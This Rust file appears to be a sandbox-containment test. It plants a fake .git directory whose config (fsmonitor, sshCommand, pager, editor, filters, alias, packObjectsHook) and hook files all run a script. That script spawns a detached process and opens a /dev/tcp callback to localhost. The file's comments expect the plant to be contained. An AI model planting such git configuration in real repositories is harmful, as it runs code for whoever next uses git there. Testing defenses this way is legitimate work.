//! Makes the source a git repository whose configuration names programs: the next `git` that somebody runs there, with
//! whatever rights, starts them.
//! ends: success
//! says: contained: a repository with hooks in the source: planted, for whoever runs git there
//! then: no connection
//! then: nothing alive

mod machine;
use machine::*;
use std::fs;
use std::os::unix::fs::PermissionsExt;

fn main() -> std::io::Result<()> {
    let git = "/build/source/.git";
    for folder in ["objects", "refs", "hooks"] {
        fs::create_dir_all(format!("{git}/{folder}"))?;
    }
    let program = format!("{git}/hooks/program");
    let (port, mark) = (fact("TCP_PORT"), fact("MARK"));
    let script = format!("#!/bin/bash\nsetsid sleep {mark} &\necho out > /dev/tcp/127.0.0.1/{port}\n");
    fs::write(format!("{git}/HEAD"), "ref: refs/heads/main\n")?;
    fs::write(
        format!("{git}/config"),
        format!(
            "[core]\nrepositoryformatversion = 0\nfsmonitor = {program}\nhooksPath = {git}/hooks\n\
             sshCommand = {program}\npager = {program}\neditor = {program}\nattributesFile = {git}/attributes\n\
             [diff \"x\"]\ntextconv = {program}\n[filter \"x\"]\nclean = {program}\nsmudge = {program}\n\
             [alias]\nstatus = !{program}\n[uploadpack]\npackObjectsHook = {program}\n"
        ),
    )?;
    fs::write(format!("{git}/attributes"), "* filter=x diff=x\n")?;
    for path in [
        program.clone(),
        format!("{git}/hooks/post-checkout"),
        format!("{git}/hooks/post-index-change"),
        format!("{git}/hooks/reference-transaction"),
    ] {
        fs::write(&path, &script)?;
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755))?;
    }
    contained(
        "a repository with hooks in the source",
        "planted, for whoever runs git there",
    );
    Ok(())
}
